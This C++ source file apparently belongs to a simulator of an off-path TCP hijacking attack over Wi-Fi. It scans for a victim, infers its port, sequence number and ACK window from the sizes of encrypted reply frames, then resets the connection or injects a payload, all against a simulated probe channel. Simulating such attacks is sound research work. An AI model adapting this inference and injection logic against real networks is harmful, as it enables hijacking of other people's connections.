#include "hijacksim/attack/attacker.hpp"

#include <algorithm>
#include <functional>
#include <cmath>

namespace hijacksim::attack {

std::string_view to_string(Phase p) {
    switch (p) {
        case Phase::Scan: return "scan";
        case Phase::Port: return "port";
        case Phase::Seq: return "seq";
        case Phase::AckWindow: return "ack_window";
        case Phase::AckBoundary: return "ack_boundary";
        case Phase::Verify: return "verify";
        case Phase::Action: return "action";
    }
    return "?";
}

std::optional<Phase> parse_phase(std::string_view s) {
    for (Phase p : kAllPhases) {
        if (to_string(p) == s) return p;
    }
    return std::nullopt;
}

std::string_view to_string(PortMethod m) {
    switch (m) {
        case PortMethod::Auto: return "auto";
        case PortMethod::SynAck: return "synack";
        case PortMethod::Sack: return "sack";
    }
    return "?";
}

std::string_view to_string(OutcomeKind k) {
    switch (k) {
        case OutcomeKind::Success: return "success";
        case OutcomeKind::Failure: return "failure";
        case OutcomeKind::Inconclusive: return "inconclusive";
    }
    return "?";
}

void InferenceConfig::validate() const {
    if (k_verify < 1) throw ConfigError("k_verify must be >= 1");
    if (observe_timeout.count() <= 0) throw ConfigError("observe_timeout must be positive");
    if (port_lo < 1 || port_hi > 65535 || port_lo > port_hi) throw ConfigError("port_range must be a non-empty subrange of [1, 65535]");
    if (!(probe_pacing > 0.0)) throw ConfigError("probe_pacing must be > 0");
    if (sniffer_count < 1) throw ConfigError("sniffer_count must be >= 1");
    if (flood_listen_s < 0.0) throw ConfigError("flood_listen_s must be >= 0");
    if (alphabet_check_probes < 1) throw ConfigError("alphabet_check_probes must be >= 1");
    if (max_reinference < 0) throw ConfigError("max_reinference must be >= 0");
    if (ack_probe_seq_offset < 1) throw ConfigError("ack_probe_seq_offset must be >= 1");
    if (!(noisy_error_rate > 0.0 && noisy_error_rate < 0.5)) throw ConfigError("noisy_error_rate must be in (0, 0.5)");
    if (!(assumed_loss >= 0.0 && assumed_loss < 1.0)) throw ConfigError("assumed_loss must be in [0, 1)");
    if (noisy_round_cap < k_verify) throw ConfigError("noisy_round_cap must be >= k_verify");
}

double AttackReport::bandwidth_kbps() const {
    if (virtual_time.count() <= 0) return 0.0;
    return static_cast<double>(bytes_sent) / 1000.0 / to_seconds(virtual_time);
}

std::uint32_t derive_usable_ack(std::uint32_t lower, tcp::SeqSpace space) {
    return space.add(lower, space.half() - 1);
}

Attacker::Attacker(ProbeChannel& channel, InferenceConfig cfg, AttackTarget target, std::uint64_t seed)
    : ch_(channel), cfg_(std::move(cfg)), target_(target), rng_(seed), space_(target.space) {
    cfg_.validate();
    if (cfg_.calibrate_alphabet) cfg_.alphabet = ResponseAlphabet{std::nullopt, std::nullopt, std::nullopt};
    report_.victim = std::nullopt;
}

tcp::FourTuple Attacker::tuple_for(std::uint16_t port) const {
    tcp::FourTuple t;
    t.client_ip = victim_ ? victim_->ip : Ipv4Address{};
    t.client_port = port;
    t.server_ip = target_.server_ip;
    t.server_port = target_.server_port;
    return t;
}

void Attacker::enter_phase(Phase p) {
    close_phase();
    phase_ = p;
    phase_start_ = ch_.now();
    phase_open_ = true;
}

void Attacker::close_phase() {
    if (!phase_open_) return;
    report_.phase_times[phase_] += ch_.now() - phase_start_;
    phase_start_ = ch_.now();
    phase_open_ = false;
}

Attacker::Sym Attacker::classify(std::uint32_t len) const {
    const auto& a = cfg_.alphabet;
    if (a.rst && len == *a.rst) return Sym::Rst;
    if (a.ack && len == *a.ack) return Sym::Ack;
    if (a.sack && len == *a.sack) return Sym::Sack;
    // First unset entry takes every size not claimed by a set one.
    if (!a.rst) return Sym::Rst;
    if (!a.ack) return Sym::Ack;
    if (!a.sack) return Sym::Sack;
    return Sym::Other;
}

bool Attacker::noisy(Sym s) const {
    auto it = noise_pps_.find(s);
    return it != noise_pps_.end() && it->second > 0.0;
}

void Attacker::transmit(const tcp::SegmentMeta& seg, const ProbeTag& tag) {
    ch_.send(seg, tag);
    ++report_.probes_sent;
    report_.bytes_sent += tcp::segment_ip_length(seg) + 14;
    ++report_.phase_probes[phase_];
}

std::vector<HostInfo> Attacker::arp_scan() {
    std::vector<HostInfo> hosts;
    for (int i = 0; i < cfg_.k_verify; ++i) {
        for (const HostInfo& h : ch_.arp_sweep()) {
            if (std::none_of(hosts.begin(), hosts.end(), [&](const HostInfo& x) { return x.mac == h.mac; })) {
                hosts.push_back(h);
            }
        }
    }
    return hosts;
}

void Attacker::set_victim(const HostInfo& victim) {
    victim_ = victim;
    report_.victim = victim;
    ch_.tune(victim.channel);
}

Observation Attacker::observe_round(const ProbeSpec& spec) {
    // Anything still arriving before our next slot answers an earlier probe.
    while (ch_.next_frame(next_send_)) {
    }
    for (const auto& seg : spec.segments) transmit(seg, spec.tag);
    const VirtualTime t0 = ch_.now();
    const auto spacing = from_seconds(1.0 / cfg_.probe_pacing);
    next_send_ = t0 + spacing * static_cast<std::int64_t>(spec.segments.size());

    Observation obs;
    obs.t_start = t0;
    obs.t_end = t0 + cfg_.observe_timeout;
    const bool gated = noisy(spec.positive) && gate_.has_value();
    while (auto f = ch_.next_frame(obs.t_end)) {
        if (f->kind != wifi::FrameKind::Data || !victim_ || f->addr1 != victim_->mac) continue;
        const VirtualTime lat = f->t - t0;
        if (gated && (lat < gate_->first || lat > gate_->second)) continue;
        const Sym s = f->amsdu ? Sym::Other : classify(f->observable_len);
        switch (s) {
            case Sym::Rst: ++obs.saw_rst; break;
            case Sym::Ack: ++obs.saw_ack; break;
            case Sym::Sack: ++obs.saw_sack; break;
            case Sym::Other: ++obs.other; break;
        }
        last_lengths_.push_back(f->observable_len);
        if ((s == Sym::Rst || s == Sym::Sack) && !noisy(s) && !f->amsdu) {
            lat_min_ = latency_count_ == 0 ? lat : std::min(lat_min_, lat);
            lat_max_ = latency_count_ == 0 ? lat : std::max(lat_max_, lat);
            ++latency_count_;
        }
    }
    return obs;
}

namespace {

int count_of(const Observation& o, int sym) {
    switch (sym) {
        case 0: return o.saw_rst;
        case 1: return o.saw_ack;
        case 2: return o.saw_sack;
        default: return o.other;
    }
}

void accumulate(Observation& into, const Observation& o) {
    if (into.total() == 0 && into.t_end == VirtualTime{0}) into.t_start = o.t_start;
    into.saw_rst += o.saw_rst;
    into.saw_ack += o.saw_ack;
    into.saw_sack += o.saw_sack;
    into.other += o.other;
    into.t_end = o.t_end;
}

}  // namespace

Verdict Attacker::probe(const ProbeSpec& spec, Observation* obs_out) {
    const int k = spec.max_rounds > 0 ? spec.max_rounds : cfg_.k_verify;
    const int pos = static_cast<int>(spec.positive);
    const int neg = spec.negative ? static_cast<int>(*spec.negative) : -1;
    Observation total;
    last_lengths_.clear();

    if (spec.mode == Mode::PositiveDominates && noisy(spec.positive)) {
        // The positive symbol also shows up as background traffic: run a
        // sequential likelihood-ratio test on per-round presence.
        if (!gate_ && latency_count_ >= 8) {
            const VirtualTime margin = std::max(from_millis(1), (lat_max_ - lat_min_) / 4);
            gate_ = {std::max(VirtualTime{0}, lat_min_ - margin), std::min(cfg_.observe_timeout, lat_max_ + margin)};
        }
        const VirtualTime width = gate_ ? gate_->second - gate_->first : cfg_.observe_timeout;
        const double q = std::clamp(1.0 - std::exp(-noise_pps_[spec.positive] * to_seconds(width)), 1e-6, 1.0 - 1e-6);
        const double p1 = std::clamp(1.0 - cfg_.assumed_loss * (1.0 - q), q + 1e-6, 1.0 - 1e-6);
        const double up = std::log(p1 / q);
        const double down = std::log((1.0 - p1) / (1.0 - q));
        const double bound = std::log(1.0 / cfg_.noisy_error_rate);
        double llr = 0.0;
        for (int i = 0; i < cfg_.noisy_round_cap; ++i) {
            const Observation o = observe_round(spec);
            accumulate(total, o);
            llr += count_of(o, pos) > 0 ? up : down;
            if (llr >= bound || llr <= -bound) break;
        }
        if (obs_out) *obs_out = total;
        return llr >= 0.0 ? Verdict::Hit : Verdict::Miss;
    }

    bool ambiguous = false;
    int limit = k;
    for (int i = 0; i < limit; ++i) {
        const Observation o = observe_round(spec);
        accumulate(total, o);
        const bool p = count_of(o, pos) > 0;
        const bool n = neg >= 0 && count_of(o, neg) > 0;
        if (spec.mode == Mode::Exclusive) {
            if (p && n) {
                // Re-probe up to k extra rounds before calling it ambiguous.
                if (!ambiguous) limit = std::max(limit, i + 1 + cfg_.k_verify);
                ambiguous = true;
                continue;
            }
            if (p || n) {
                if (obs_out) *obs_out = total;
                return p ? Verdict::Hit : Verdict::Miss;
            }
        } else if (p) {
            if (obs_out) *obs_out = total;
            return Verdict::Hit;
        }
    }
    if (obs_out) *obs_out = total;
    if (ambiguous) return Verdict::Ambiguous;
    if (spec.mode == Mode::PositiveDominates && total.total() > 0) return Verdict::Miss;
    return Verdict::NoResponse;
}

bool Attacker::probe_and_observe(const tcp::SegmentMeta& seg, std::uint32_t expected_len, const ProbeTag& tag) {
    ProbeSpec spec;
    spec.segments = {seg};
    spec.mode = Mode::PositiveDominates;
    spec.tag = tag;
    spec.positive = Sym::Other;
    for (int i = 0; i < cfg_.k_verify; ++i) {
        last_lengths_.clear();
        observe_round(spec);
        if (std::find(last_lengths_.begin(), last_lengths_.end(), expected_len) != last_lengths_.end()) return true;
    }
    return false;
}

std::map<std::uint32_t, double> Attacker::listen(double seconds) {
    std::map<std::uint32_t, int> counts;
    const VirtualTime end = ch_.now() + from_seconds(seconds);
    while (auto f = ch_.next_frame(end)) {
        if (f->kind != wifi::FrameKind::Data || !victim_ || f->addr1 != victim_->mac) continue;
        ++counts[f->observable_len];
    }
    std::map<std::uint32_t, double> rates;
    for (auto [len, c] : counts) rates[len] = seconds > 0 ? c / seconds : 0.0;
    return rates;
}

tcp::SegmentMeta Attacker::syn_ack_probe(std::uint16_t port) {
    tcp::SegmentMeta seg;
    seg.tuple = tuple_for(port);
    seg.flags = tcp::TcpFlags::syn_ack();
    seg.seq = space_.wrap(rng_.next());
    seg.ack = space_.wrap(rng_.next());
    return seg;
}

tcp::SegmentMeta Attacker::data_probe(const tcp::FourTuple& tuple, std::uint32_t seq, std::uint32_t ack) {
    tcp::SegmentMeta seg;
    seg.tuple = tuple;
    seg.flags = tcp::TcpFlags::data();
    seg.seq = space_.wrap(seq);
    seg.ack = space_.wrap(ack);
    seg.payload_len = 1;
    return seg;
}

void Attacker::calibrate(const tcp::FourTuple& closed) {
    // A port no client uses answers with a reset; whatever size that is
    // becomes the negative symbol.
    std::map<std::uint32_t, int> seen;
    ProbeSpec spec;
    spec.tag = {Phase::Port, "calibrate", closed.client_port};
    for (int i = 0; i < cfg_.k_verify; ++i) {
        spec.segments = {syn_ack_probe(closed.client_port)};
        last_lengths_.clear();
        observe_round(spec);
        for (auto len : last_lengths_) ++seen[len];
    }
    if (seen.empty()) return;
    auto best = std::max_element(seen.begin(), seen.end(),
                                 [](const auto& a, const auto& b) { return a.second < b.second; });
    cfg_.alphabet.rst = best->first;
}

Inferred<std::uint16_t> Attacker::sweep_ports(bool sack_method) {
    report_.port_method_used = sack_method ? PortMethod::Sack : PortMethod::SynAck;
    const std::uint32_t n = cfg_.port_count();
    const std::uint32_t half = space_.half();
    bool clean = false;
    int foreign = 0;

    auto make = [&](std::uint16_t port) {
        ProbeSpec spec;
        spec.mode = Mode::Exclusive;
        spec.negative = Sym::Rst;
        spec.tag = {Phase::Port, "port", port};
        if (sack_method) {
            const tcp::FourTuple t = tuple_for(port);
            const std::uint32_t x = space_.wrap(rng_.next());
            const std::uint32_t ack = space_.wrap(rng_.next());
            spec.segments = {data_probe(t, x, ack), data_probe(t, space_.add(x, half), ack)};
            for (auto& seg : spec.segments) seg.flags.ack = false;
            spec.positive = Sym::Sack;
        } else {
            spec.segments = {syn_ack_probe(port)};
            spec.positive = Sym::Ack;
        }
        return spec;
    };

    for (std::uint32_t i = 0; i < n; ++i) {
        const auto port = static_cast<std::uint16_t>(cfg_.port_lo + (cfg_.port_start_offset + i) % n);
        Observation obs;
        Verdict v = probe(make(port), &obs);
        if (v == Verdict::NoResponse) v = probe(make(port), &obs);
        if (v == Verdict::Ambiguous) {
            return {InferStatus::Inconclusive, 0, "persistent ambiguity at port " + std::to_string(port)};
        }
        if (v == Verdict::Hit) {
            const std::vector<std::uint32_t> hit_lengths = last_lengths_;
            Observation confirm;
            const Verdict c = probe(make(port), &confirm);
            if (c == Verdict::Ambiguous) {
                return {InferStatus::Inconclusive, 0, "persistent ambiguity at port " + std::to_string(port)};
            }
            if (c == Verdict::Hit) {
                if (!sack_method && !cfg_.alphabet.ack) {
                    for (auto len : hit_lengths) {
                        if (classify(len) == Sym::Ack) {
                            cfg_.alphabet.ack = len;
                            break;
                        }
                    }
                }
                return {InferStatus::Found, port, {}};
            }
            clean = true;
            continue;
        }
        if (obs.saw_rst > 0) clean = true;
        foreign += obs.total() > 0 ? 1 : 0;
        if (!clean && i + 1 >= static_cast<std::uint32_t>(cfg_.alphabet_check_probes)) {
            if (foreign > 0) return {InferStatus::Inconclusive, 0, "response sizes outside the expected alphabet"};
            return {InferStatus::Failed, 0, "no responses observed"};
        }
    }
    return {InferStatus::NotFound, 0, "port not found in range"};
}

Inferred<std::uint16_t> Attacker::infer_port() {
    if (!listened_ && cfg_.flood_listen_s > 0.0) {
        listened_ = true;
        for (auto [len, pps] : listen(cfg_.flood_listen_s)) noise_pps_[classify(len)] += pps;
    }
    PortMethod m = cfg_.port_method;
    if (m == PortMethod::Auto) {
        m = noise_pps_[Sym::Ack] >= cfg_.flood_threshold_pps ? PortMethod::Sack : PortMethod::SynAck;
    }
    return sweep_ports(m == PortMethod::Sack);
}

Inferred<std::uint16_t> Attacker::infer_port_sack() { return sweep_ports(true); }

bool Attacker::behind(const tcp::FourTuple& tuple, std::uint32_t seq, std::uint32_t ack, Phase phase,
                      const char* kind) {
    ProbeSpec spec;
    spec.segments = {data_probe(tuple, seq, ack)};
    // Without an ACK the probe is never taken as data, even at RCV.NXT itself.
    if (phase == Phase::Seq) spec.segments[0].flags.ack = false;
    spec.positive = Sym::Sack;
    spec.tag = {phase, kind, space_.wrap(seq)};
    if (phase == Phase::Verify && !noisy(Sym::Ack)) {
        // With a challenge-window ACK every in-window or later seq draws a
        // 68-byte reply, so both answers are positive evidence.
        spec.mode = Mode::Exclusive;
        spec.negative = Sym::Ack;
    }
    const bool hit = probe(spec) == Verdict::Hit;
    if (hit && phase == Phase::Seq) seq_positive_seen_ = true;
    return hit;
}

Inferred<std::uint32_t> Attacker::infer_seq(const tcp::FourTuple& tuple) {
    const std::uint32_t half = space_.half();
    const std::uint32_t x0 = space_.wrap(rng_.next());
    // Candidates for RCV.NXT as [lo, lo + n - 1].
    std::uint32_t lo;
    std::uint64_t n;
    if (behind(tuple, x0, space_.wrap(rng_.next()), Phase::Seq, "seq")) {
        lo = space_.add(x0, 1);
        n = half - 1;
    } else {
        lo = space_.sub(x0, half);
        n = std::uint64_t{half} + 1;
    }
    while (n > 1) {
        const std::uint64_t step = (n - 1) / 2;
        const std::uint32_t m = space_.add(lo, step);
        if (behind(tuple, m, space_.wrap(rng_.next()), Phase::Seq, "seq")) {
            lo = space_.add(m, 1);
            n -= step + 1;
        } else {
            n = step + 1;
        }
    }
    return {InferStatus::Found, lo, {}};
}

Inferred<std::uint32_t> Attacker::locate_challenge_window(const tcp::FourTuple& tuple, std::uint32_t seq_ok) {
    const std::uint32_t c = space_.wrap(rng_.next());
    for (std::uint32_t i = 0; i < 4; ++i) {
        const std::uint32_t a = space_.add(c, std::uint64_t{i} * space_.quarter());
        ProbeSpec spec;
        spec.segments = {data_probe(tuple, seq_ok, a)};
        spec.positive = Sym::Ack;
        spec.tag = {Phase::AckWindow, "ack", a};
        Observation obs;
        const Verdict v = probe(spec, &obs);
        if (obs.saw_sack > 0 && !noisy(Sym::Sack)) return {InferStatus::Failed, 0, "stale"};
        if (v == Verdict::Hit) return {InferStatus::Found, a, {}};
    }
    return {InferStatus::Failed, 0, "no quarter point drew a challenge ACK"};
}

Inferred<std::uint32_t> Attacker::find_ack_lower_boundary(const tcp::FourTuple& tuple, std::uint32_t seq_ok,
                                                          std::uint32_t ack_challenge, AckBracket* resume) {
    const std::uint32_t half = space_.half();
    const std::uint32_t base = space_.add(space_.sub(ack_challenge, half), 1);
    // Offsets [0, half - 1] from base: silent up to the boundary, challenged from it on.
    AckBracket local{0, half - 1};
    AckBracket& br = resume ? *resume : local;
    if (br.hi == 0 && br.lo == 0) br.hi = half - 1;
    std::uint64_t& lo = br.lo;
    std::uint64_t& hi = br.hi;
    while (lo < hi) {
        const std::uint64_t m = lo + (hi - lo) / 2;
        const std::uint32_t a = space_.add(base, m);
        ProbeSpec spec;
        spec.segments = {data_probe(tuple, seq_ok, a)};
        spec.positive = Sym::Ack;
        spec.tag = {Phase::AckBoundary, "ack", a};
        Observation obs;
        const Verdict v = probe(spec, &obs);
        if (obs.saw_sack > 0 && !noisy(Sym::Sack)) return {InferStatus::Failed, 0, "stale"};
        if (v == Verdict::Hit) {
            hi = m;
        } else {
            lo = m + 1;
        }
    }
    return {InferStatus::Found, space_.add(base, lo), {}};
}

Inferred<std::uint32_t> Attacker::refine_seq(const tcp::FourTuple& tuple, std::uint32_t guess,
                                             std::uint32_t ack_lower) {
    return gallop(guess, [&](std::uint32_t x) { return behind(tuple, x, ack_lower, Phase::Verify, "refine"); });
}

Inferred<std::uint32_t> Attacker::gallop(std::uint32_t guess, const std::function<bool(std::uint32_t)>& B) {
    const std::uint64_t limit = space_.quarter();
    // Establish lo (behind) and hi (not behind) around RCV.NXT.
    std::uint32_t lo;
    std::uint32_t hi;
    const std::uint32_t below = space_.sub(guess, 1);
    if (B(below)) {
        if (!B(guess)) return {InferStatus::Found, guess, {}};
        lo = guess;
        std::uint64_t step = 1;
        while (true) {
            const std::uint32_t x = space_.add(guess, step);
            if (!B(x)) {
                hi = x;
                break;
            }
            lo = x;
            step *= 2;
            if (step > limit) return {InferStatus::Failed, 0, "estimate drifted too far"};
        }
    } else {
        hi = below;
        std::uint64_t step = 1;
        while (true) {
            const std::uint32_t x = space_.sub(below, step);
            if (B(x)) {
                lo = x;
                break;
            }
            hi = x;
            step *= 2;
            if (step > limit) return {InferStatus::Failed, 0, "estimate drifted too far"};
        }
    }
    // Smallest offset d in [1, span] with lo + d not behind.
    std::uint64_t a = 1;
    std::uint64_t b = space_.distance(lo, hi);
    while (a < b) {
        const std::uint64_t m = a + (b - a) / 2;
        if (!B(space_.add(lo, m))) {
            b = m;
        } else {
            a = m + 1;
        }
    }
    return {InferStatus::Found, space_.add(lo, a), {}};
}

Outcome Attacker::run_action(const tcp::FourTuple& tuple, const ActionSpec& action) {
    const std::uint32_t r = *report_.rcv_nxt_found;
    if (action.kind == ActionKind::Reset) {
        tcp::SegmentMeta rst;
        rst.tuple = tuple;
        rst.flags = tcp::TcpFlags::reset();
        rst.seq = r;
        ProbeSpec spec;
        spec.segments = {rst};
        spec.positive = Sym::Ack;
        spec.tag = {Phase::Action, "reset", r};
        spec.max_rounds = 1;
        if (probe(spec) == Verdict::Hit && !noisy(Sym::Ack)) {
            return {OutcomeKind::Failure, Phase::Action, "reset was challenged"};
        }
        // A live connection challenges a SYN/ACK; a closed one resets it.
        ProbeSpec check;
        check.segments = {syn_ack_probe(tuple.client_port)};
        check.mode = Mode::Exclusive;
        check.positive = Sym::Rst;
        check.negative = Sym::Ack;
        check.tag = {Phase::Action, "confirm", tuple.client_port};
        const Verdict v = probe(check);
        if (v == Verdict::Miss) return {OutcomeKind::Failure, Phase::Action, "connection still open"};
        return {OutcomeKind::Success, std::nullopt, {}};
    }

    tcp::SegmentMeta seg;
    seg.tuple = tuple;
    seg.seq = r;
    seg.ack = *report_.ack_usable;
    if (action.payload.empty()) {
        seg.flags = tcp::TcpFlags::pure_ack();
        transmit(seg, {Phase::Action, "inject", r});
        return {OutcomeKind::Success, std::nullopt, {}};
    }
    seg.flags = tcp::TcpFlags::data();
    seg.payload_len = static_cast<std::uint32_t>(action.payload.size());
    seg.payload = action.payload;
    ProbeSpec spec;
    spec.segments = {seg};
    spec.positive = Sym::Sack;
    spec.tag = {Phase::Action, "inject", r};
    spec.max_rounds = 1;
    if (probe(spec) == Verdict::Hit) return {OutcomeKind::Failure, Phase::Action, "injected segment was stale"};
    // Once accepted, the last injected byte lies behind RCV.NXT.
    const std::uint32_t last = space_.add(r, seg.payload_len - 1);
    if (!behind(tuple, last, *report_.ack_lower_found, Phase::Action, "confirm")) {
        return {OutcomeKind::Failure, Phase::Action, "payload not accepted"};
    }
    return {OutcomeKind::Success, std::nullopt, {}};
}

void Attacker::run_phases(const ActionSpec& action) {
    auto fail = [&](OutcomeKind kind, Phase p, std::string reason) {
        report_.outcome = {kind, p, std::move(reason)};
    };

    enter_phase(Phase::Scan);
    const auto hosts = arp_scan();
    if (hosts.empty()) return fail(OutcomeKind::Failure, Phase::Scan, "no host answered ARP");
    auto victim = std::find_if(hosts.begin(), hosts.end(),
                               [&](const HostInfo& h) { return !target_.victim_ip || h.ip == *target_.victim_ip; });
    if (victim == hosts.end()) return fail(OutcomeKind::Failure, Phase::Scan, "victim not among ARP replies");
    set_victim(*victim);

    enter_phase(Phase::Port);
    if (cfg_.calibrate_alphabet) calibrate(tuple_for(1));
    const auto port = infer_port();
    if (!port.ok()) {
        return fail(port.status == InferStatus::Inconclusive ? OutcomeKind::Inconclusive : OutcomeKind::Failure,
                    Phase::Port, port.reason);
    }
    report_.port_found = port.value;
    const tcp::FourTuple tuple = tuple_for(port.value);

    auto reinfer = [&]() {
        if (report_.reinferences >= cfg_.max_reinference) return false;
        ++report_.reinferences;
        enter_phase(Phase::Seq);
        const auto near = gallop(*report_.rcv_nxt_found, [&](std::uint32_t x) {
            return behind(tuple, x, space_.wrap(rng_.next()), Phase::Seq, "seq");
        });
        report_.rcv_nxt_found = near.ok() ? near.value : infer_seq(tuple).value;
        return true;
    };

    enter_phase(Phase::Seq);
    report_.rcv_nxt_found = infer_seq(tuple).value;

    // Each stale probe doubles the lead over the estimate, and a boundary
    // search in progress resumes where it stopped.
    std::uint32_t lead = cfg_.ack_probe_seq_offset;
    std::optional<std::uint32_t> window;
    AckBracket bracket;
    auto infer_ack = [&]() -> bool {
        auto stale = [&]() {
            if (!reinfer()) return false;
            if (lead < space_.quarter() / 4) lead *= 2;
            return true;
        };
        while (true) {
            const std::uint32_t seq_ok = space_.add(*report_.rcv_nxt_found, lead);
            if (window) {
                enter_phase(Phase::AckBoundary);
                const auto lower = find_ack_lower_boundary(tuple, seq_ok, *window, &bracket);
                if (!lower.ok()) {
                    if (lower.reason == "stale" && stale()) continue;
                    fail(OutcomeKind::Failure, Phase::AckBoundary, lower.reason);
                    return false;
                }
                report_.ack_lower_found = lower.value;
                report_.ack_usable = derive_usable_ack(lower.value, space_);
                return true;
            }
            enter_phase(Phase::AckWindow);
            const auto c = locate_challenge_window(tuple, seq_ok);
            if (!c.ok()) {
                if (c.reason == "stale" && stale()) continue;
                fail(OutcomeKind::Failure, Phase::AckWindow, c.reason);
                return false;
            }
            window = c.value;
            bracket = {};
        }
    };
    if (!infer_ack()) return;

    while (true) {
        enter_phase(Phase::Verify);
        const auto refined = refine_seq(tuple, *report_.rcv_nxt_found, *report_.ack_lower_found);
        if (!refined.ok()) {
            if (reinfer()) continue;
            if (!seq_positive_seen_) return fail(OutcomeKind::Failure, Phase::Seq, "sequence predicate never fired");
            return fail(OutcomeKind::Failure, Phase::Verify, refined.reason);
        }
        report_.rcv_nxt_found = refined.value;
        enter_phase(Phase::Action);
        report_.outcome = run_action(tuple, action);
        if (report_.outcome.kind == OutcomeKind::Success) return;
        if (report_.reinferences >= cfg_.max_reinference) return;
        ++report_.reinferences;
        if (action.kind == ActionKind::Inject && report_.outcome.reason == "payload not accepted") {
            window.reset();
            if (!infer_ack()) return;
        }
    }
}

AttackReport Attacker::full_attack(const ActionSpec& action) {
    try {
        run_phases(action);
    } catch (const DeadlineExceeded&) {
        report_.outcome = {OutcomeKind::Failure, phase_, "timeout"};
    }
    close_phase();
    report_.virtual_time = ch_.now();
    return report_;
}

}  // namespace hijacksim::attack
